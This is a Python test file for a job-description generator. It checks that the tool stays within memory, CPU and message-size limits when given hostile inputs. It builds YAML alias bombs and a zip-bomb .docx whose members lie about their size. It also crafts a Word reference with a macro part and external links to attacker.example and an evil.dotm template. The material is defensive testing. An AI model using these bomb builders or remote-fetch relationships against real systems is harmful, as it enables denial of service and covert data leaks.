"""The limits the README promises hold against hostile inputs: memory, CPU and message size.

The costly cases run jdgen in a child process under an address-space limit (RLIMIT_AS), so a
regression is a MemoryError or a kill, never a machine that swaps; time is bounded by the
limit's timeout, not asserted.
"""

from __future__ import annotations

import io
import re
import resource
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

import jdgen
from jdgen.common import resources
from jdgen.common.errors import InputError, Problem, quoted
from jdgen.data.inputs import parse_profile
from jdgen.data.yamlio import MAX_COLLECTION_ALIASES, parse_yaml
from jdgen.decide.assessment import respondent_labels
from jdgen.render.docx_package import PackageError, checked_package

MEMORY_LIMIT = 1024 * 1024 * 1024  # jdgen needs about 100 MB; a bomb needs gigabytes


CPU_LIMIT = 60  # seconds of CPU: jdgen needs one or two for anything here


def run_limited(args: list[str], cwd: Path, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """``jdgen ARGS`` in a child process with at most `MEMORY_LIMIT` bytes of address space and `CPU_LIMIT` s of CPU."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
        resource.setrlimit(resource.RLIMIT_CPU, (CPU_LIMIT, CPU_LIMIT))

    return subprocess.run(
        [sys.executable, "-m", "jdgen", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=limit,
        check=False,
    )


def laughs(levels: int, width: int = 10) -> str:
    """A flow list whose every level repeats the one before `width` times through aliases."""
    first = "[&a0 [" + ",".join(["lol"] * width) + "]"
    rest = (f"&a{i} [" + ",".join([f"*a{i - 1}"] * width) + "]" for i in range(1, levels + 1))
    return ", ".join([first, *rest]) + "]"


# --- YAML aliases (review D3) -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("spec.yaml", f"archetypes: all\nprofiles:\n  - {laughs(8)}\n"),
        ("spec.yaml", f"archetypes: [{laughs(8)}]\nprofiles:\n  - {{company: A}}\n"),
        ("cat/blocks.yaml", f"blocks:\n  - id: {laughs(8)}\n    domain: alignment\n"),
        ("cat/blocks.yaml", f"blocks:\n  - id: {laughs(24, width=2)}\n    domain: alignment\n"),
    ],
)
def test_a_yaml_alias_bomb_is_one_short_line(tmp_path: Path, name: str, body: str) -> None:
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text(body, encoding="utf-8")
    args = ["batch", name, "-o", "out"] if name == "spec.yaml" else ["catalog", "validate", "cat"]
    done = run_limited(args, tmp_path)
    assert done.returncode == 1, done.stderr[-2000:]
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
    assert len(done.stderr) < 2000
    assert "aliases" in done.stderr


def test_a_few_aliases_still_work_and_each_document_has_its_own_budget() -> None:
    data, problem = parse_yaml("base: &b [1, 2]\ncopies: [*b, *b, *b]\n", "t.yaml")
    assert problem is None and data == {"base": [1, 2], "copies": [[1, 2]] * 3}
    many = "base: &b [1]\ncopies: [" + ", ".join(["*b"] * MAX_COLLECTION_ALIASES) + "]\n"
    assert parse_yaml(many, "t.yaml")[1] is None
    too_many = many.replace("[*b", "[*b, *b")
    _, problem = parse_yaml(too_many, "t.yaml")
    assert problem is not None and f"more than {MAX_COLLECTION_ALIASES} aliases" in problem.message
    scalars = "word: &w hello\nrepeats: [" + ", ".join(["*w"] * 500) + "]\n"  # scalars multiply nothing
    assert parse_yaml(scalars, "t.yaml")[1] is None


def test_a_value_that_refers_to_itself_is_read_without_looping() -> None:
    data, problem = parse_yaml("loop: &a [1, *a]\n", "t.yaml")
    assert problem is None and data["loop"][1] is data["loop"]


# --- messages stay short ------------------------------------------------------------------------


def test_messages_quote_a_long_or_nested_value_cut_short() -> None:
    assert quoted("enterprise") == "'enterprise'"
    assert quoted("x" * 10_000) == repr("x" * 60 + "…")
    nested: list[object] = [["lol"] * 10]
    for _ in range(6):
        nested = [nested] * 10
    assert len(quoted(nested)) < 80


def test_an_error_with_thousands_of_problems_shows_twenty_and_counts_the_rest() -> None:
    error = InputError(problems=tuple(Problem("rows.csv", f"line {n}: bad") for n in range(30_000)))
    lines = error.lines()
    assert len(lines) == 21
    assert lines[0] == "rows.csv: line 0: bad"
    assert lines[-1] == "… and 29,980 more problems"


def test_thirty_thousand_bad_answer_rows_print_a_screenful(tmp_path: Path) -> None:
    rows = ["respondent,role,statement,answer", *(f"P{n},R{n},not-a-statement,maybe" for n in range(30_000))]
    (tmp_path / "answers.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    done = run_limited(["compare", "--answers", "answers.csv", "-o", "board.md"], tmp_path)
    assert done.returncode == 1
    lines = done.stderr.splitlines()
    assert len(lines) <= 21 and lines[-1].startswith("jdgen: error: … and ")
    assert len(done.stderr) < 20_000


def test_an_unknown_archetype_of_a_megabyte_is_quoted_cut(catalog: jdgen.Catalog) -> None:
    with pytest.raises(jdgen.JdgenError) as caught:
        jdgen.compose(catalog, "x" * 1_000_000)
    assert len(str(caught.value)) < 1000


# --- Word files whose members lie about their size (review D4, D8, D9, D17) ----------------------


def _raw_deflate(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def lying_docx(member: str, *, honest_start: bool, gigabytes: float = 1.5) -> bytes:
    """The built-in reference, with `member` declaring its real size and CRC but inflating to gigabytes.

    `honest_start`: the member's first bytes are its real content (so the CRC of the declared
    bytes matches); else they are the content cut short, followed by spaces.
    """
    with zipfile.ZipFile(resources.templates_dir() / "reference.docx") as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    real = members[member]
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = real if honest_start else real[: len(real) // 2]
    block = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    spaces = zlib.compressobj(9, zlib.DEFLATED, -15)
    run = spaces.compress(b" " * (64 << 20)) + spaces.flush(zlib.Z_FULL_FLUSH)  # whole blocks repeat
    stream = block + run * int(gigabytes * 16) + _raw_deflate(b" ")
    out = io.BytesIO()
    central = []
    for name, data in members.items():
        packed = stream if name == member else _raw_deflate(data)
        crc, offset, encoded = zlib.crc32(data), out.tell(), name.encode()
        out.write(
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(packed), len(data), len(encoded), 0)
        )
        out.write(encoded + packed)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(packed),
                len(data),
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + encoded
        )
    start = out.tell()
    out.write(b"".join(central))
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


@pytest.mark.parametrize("honest_start", [False, True])
def test_a_reference_whose_member_lies_about_its_size_costs_no_gigabytes(tmp_path: Path, honest_start: bool) -> None:
    (tmp_path / "bomb.docx").write_bytes(lying_docx("word/styles.xml", honest_start=honest_start))
    done = run_limited(["generate", "-a", "digital", "--reference", "bomb.docx", "-o", "jd.docx"], tmp_path)
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
    if honest_start:  # the declared bytes are a real styles part: jdgen reads those and nothing more
        assert done.returncode == 0, done.stderr
        assert docx.Document(str(tmp_path / "jd.docx")).paragraphs[0].text == "Chief Customer Officer"
    else:
        assert done.returncode == 1
        assert done.stderr.startswith("jdgen: error: bomb.docx: is damaged (Bad CRC-32")
        assert not (tmp_path / "jd.docx").exists()


@pytest.mark.parametrize("honest_start", [False, True])
def test_linting_a_word_file_whose_member_lies_about_its_size_costs_no_gigabytes(
    tmp_path: Path, honest_start: bool
) -> None:
    (tmp_path / "posting.docx").write_bytes(lying_docx("word/document.xml", honest_start=honest_start))
    done = run_limited(["lint", "posting.docx"], tmp_path)
    assert "Traceback" not in done.stderr and "MemoryError" not in done.stderr
    if not honest_start:
        assert done.returncode == 1
        assert "posting.docx: not a Word document (.docx)" in done.stderr


def test_checked_package_counts_what_members_really_inflate_to() -> None:
    blob = io.BytesIO()
    with zipfile.ZipFile(blob, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b"<w:document/>")
        archive.writestr("word/media/logo.png", b"\0" * 3_000_000)
    assert len(checked_package(blob.getvalue(), 4_000_000)) < 100_000
    with pytest.raises(PackageError, match="unzips to more than 2,000,000 bytes"):
        checked_package(blob.getvalue(), 2_000_000)
    with pytest.raises(PackageError, match="of XML"):
        checked_package(blob.getvalue(), 4_000_000, xml_budget=5)


def _edited_reference(
    tmp_path: Path, edits: dict[str, Callable[[bytes], bytes]], extra: dict[str, bytes] | None = None
) -> Path:
    with zipfile.ZipFile(resources.templates_dir() / "reference.docx") as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    for name, edit in edits.items():
        members[name] = edit(members[name])
    members.update(extra or {})
    path = tmp_path / "reference.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def test_a_reference_with_a_doctype_is_one_line_on_the_command_line_and_in_serve(tmp_path: Path) -> None:
    def entity(xml: bytes) -> bytes:
        head, body = xml.split(b"?>", 1)
        return (
            head
            + b'?><!DOCTYPE w:hdr [<!ENTITY co "Northwind">]>'
            + body.replace(b"</w:hdr>", b"<w:p><w:r><w:t>&co; letterhead</w:t></w:r></w:p></w:hdr>")
        )

    reference = _edited_reference(tmp_path, {"word/header1.xml": entity})
    done = run_limited(["generate", "-a", "digital", "--reference", str(reference), "-o", "jd.docx"], tmp_path)
    assert done.returncode == 1
    assert done.stderr == (
        f"jdgen: error: {reference}: word/header1.xml declares a DOCTYPE, which Word never writes; "
        "a reference document is a Word file saved as .docx\n"
    )
    with pytest.raises(jdgen.RenderError, match="declares a DOCTYPE"):
        jdgen.render(jdgen.compose(jdgen.load_catalog(), "digital"), "docx", reference=reference)


def test_a_relationship_without_a_target_is_one_line(tmp_path: Path) -> None:
    def no_target(xml: bytes) -> bytes:
        return xml.replace(
            b"</Relationships>",
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"/></Relationships>',
        )

    reference = _edited_reference(tmp_path, {"word/_rels/document.xml.rels": no_target})
    done = run_limited(["generate", "-a", "digital", "--reference", str(reference), "-o", "jd.docx"], tmp_path)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.startswith(f"jdgen: error: {reference}: not a valid .docx (")
    assert len(done.stderr.splitlines()) == 1


def test_macros_and_remote_parts_of_a_reference_never_reach_a_jd(tmp_path: Path) -> None:
    vba = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    template = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    image = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
    link = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"

    def document_rels(xml: bytes) -> bytes:
        return xml.replace(
            b"</Relationships>",
            f'<Relationship Id="rId90" Type="{vba}" Target="vbaProject.bin"/>'
            f'<Relationship Id="rId91" Type="{image}" Target="file://attacker.example/share/x.png" TargetMode="External"/>'
            f'<Relationship Id="rId92" Type="{link}" Target="https://example.com/careers" TargetMode="External"/>'
            "</Relationships>".encode(),
        )

    settings_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{template}" Target="http://127.0.0.1:18999/evil.dotm" TargetMode="External"/>'
        "</Relationships>"
    ).encode()

    def settings(xml: bytes) -> bytes:
        return re.sub(rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rId1"/>', xml, count=1)

    reference = _edited_reference(
        tmp_path,
        {
            "word/_rels/document.xml.rels": document_rels,
            "word/settings.xml": settings,
            "[Content_Types].xml": lambda xml: xml.replace(
                b"<Default ",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default ',
                1,
            ),
        },
        {"word/vbaProject.bin": b"macro container", "word/_rels/settings.xml.rels": settings_rels},
    )
    done = run_limited(["generate", "-a", "digital", "--reference", str(reference), "-o", "jd.docx"], tmp_path)
    assert done.returncode == 0, done.stderr
    assert "holds content Word would run or fetch, left out of every document" in done.stderr
    assert "vbaProject" in done.stderr and "attachedTemplate" in done.stderr and "attacker.example" in done.stderr
    with zipfile.ZipFile(tmp_path / "jd.docx") as written:
        names = written.namelist()
        everything = b"".join(written.read(name) for name in names)
    assert not any("vba" in name.lower() for name in names)
    assert b"attacker.example" not in everything and b"evil.dotm" not in everything
    assert b"attachedTemplate" not in everything
    docx.Document(str(tmp_path / "jd.docx"))  # and it still opens


# --- costs that grew faster than the input (review D5, D16) -------------------------------------


def test_thirty_thousand_respondents_are_refused_in_one_line(tmp_path: Path) -> None:
    rows = ["respondent,role,statement,answer", *(f"P{n},R{n},resources,no" for n in range(30_000))]
    (tmp_path / "answers.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    done = run_limited(["generate", "-a", "digital", "--answers", "answers.csv", "-o", "jd.md"], tmp_path)
    assert done.returncode == 1
    assert done.stderr == "jdgen: error: answers.csv: respondents: too long: at most 200 entries (got 30,000)\n"


def test_two_hundred_respondents_are_labelled_apart(catalog: jdgen.Catalog) -> None:
    people = [
        {"role": "VP" if n % 2 else f"VP {n}", "respondent": f"P{n}", "answers": {"resources": "no"}}
        for n in range(200)
    ]
    survey = jdgen.Survey.model_validate({"respondents": people})
    labels = respondent_labels(survey)
    assert len(set(labels)) == 200 and labels[1] == "VP (P1)" and labels[0] == "VP 0"


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("benefits", [f"benefit {n}" for n in range(51)], "benefits: too long: at most 50 entries (got 51)"),
        ("remote_scope", [f"place {n}" for n in range(251)], "remote_scope: too long: at most 250 entries (got 251)"),
        ("company", "Acme " * 100, "company: too long: at most 300 characters (got 500)"),
        ("about", "word " * 5000, "about: too long: at most 20,000 characters (got 25,000)"),
    ],
)
def test_profile_lists_and_texts_have_a_sensible_length(field: str, value: object, message: str) -> None:
    with pytest.raises(InputError) as caught:
        parse_profile({field: value}, "<profile>")
    assert caught.value.lines() == [f"<profile>: {message}"]


def test_the_word_writer_finds_the_section_properties_once(
    catalog: jdgen.Catalog, monkeypatch: pytest.MonkeyPatch
) -> None:
    from docx.oxml.document import CT_Body

    lookups = 0
    original = CT_Body.sectPr

    def counted(body: CT_Body) -> object:
        nonlocal lookups
        lookups += 1
        return original.fget(body)  # type: ignore[attr-defined]

    monkeypatch.setattr(CT_Body, "sectPr", property(counted))
    jd = jdgen.compose(catalog, "digital", profile={"benefits": [f"benefit {n}" for n in range(50)]})
    jdgen.render(jd, "docx", posting=True)
    few = lookups
    lookups = 0
    jdgen.render(jdgen.compose(catalog, "digital"), "docx", posting=True)
    assert few == lookups  # the same few lookups, however many paragraphs


def test_lint_with_thousands_of_wildcard_terms_is_quick(tmp_path: Path) -> None:
    terms = "\n".join(f"      - w{n}* w{n}* w{n}*" for n in range(20_000))
    (tmp_path / "lists.yaml").write_text(
        f"lists:\n  - id: many\n    label: Many\n    severity: info\n    why: test\n    terms:\n{terms}\n"
    )
    (tmp_path / "posting.md").write_text(" ".join(f"w{n}x" for n in range(20_000)) + "\n")
    done = run_limited(["lint", "posting.md", "--lists", "lists.yaml"], tmp_path)
    assert "Traceback" not in done.stderr, done.stderr[-500:]
    assert done.returncode in (0, 1) and done.returncode >= 0  # not killed by the CPU limit


def test_a_text_longer_than_any_posting_is_refused_before_it_is_linted() -> None:
    with pytest.raises(InputError, match="200,001 characters is more than a posting"):
        jdgen.lint_text("x" * 200_001)


def test_the_api_refuses_a_crowd_of_respondents_at_once(catalog: jdgen.Catalog) -> None:
    from tests.test_web_api import make_client

    people = [{"role": f"R{n}", "answers": {"resources": "no"}} for n in range(20_000)]  # 1 MB
    with make_client(catalog) as client:
        response = client.post("/api/jd", json={"archetype": "digital", "respondents": people})
    assert response.status_code == 422
    assert "at most 200 entries (got 20,000)" in response.json()["error"]


# --- message edge cases (review D15) ------------------------------------------------------------


def test_a_csv_with_classic_mac_line_ends_is_read(tmp_path: Path) -> None:
    (tmp_path / "team.csv").write_bytes(b"respondent,role,statement,answer\rA,CFO,resources,no\rB,COO,resources,yes\r")
    survey = jdgen.load_answers([tmp_path / "team.csv"])
    assert [r.role for r in survey.respondents] == ["CFO", "COO"]


@pytest.mark.parametrize(
    ("argument", "env", "message"),
    [
        (b"Acme \xff\xfe", {}, "holds bytes that are not UTF-8 text"),
        ("Acme 🚀".encode(), {"LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"}, "locale is not"),
    ],
)
def test_an_argument_the_locale_cannot_decode_is_refused_not_dropped(
    tmp_path: Path, argument: bytes, env: dict[str, str], message: str
) -> None:
    import os

    done = subprocess.run(
        [
            sys.executable.encode(),
            b"-m",
            b"jdgen",
            b"generate",
            b"-a",
            b"digital",
            b"--company",
            argument,
            b"-f",
            b"md",
            b"-o",
            b"jd.md",
        ],
        cwd=tmp_path,
        capture_output=True,
        env={**os.environ, **env},
        check=False,
    )
    assert done.returncode == 1
    assert message in done.stderr.decode("utf-8", "replace")
    assert not (tmp_path / "jd.md").exists()


def test_a_mapping_of_ten_thousand_keys_is_read_without_a_word_about_merges() -> None:
    text = "".join(f"k{n}: 1\n" for n in range(10_001))
    data, problem = parse_yaml(text, "p.yaml")
    assert problem is None and len(data) == 10_001
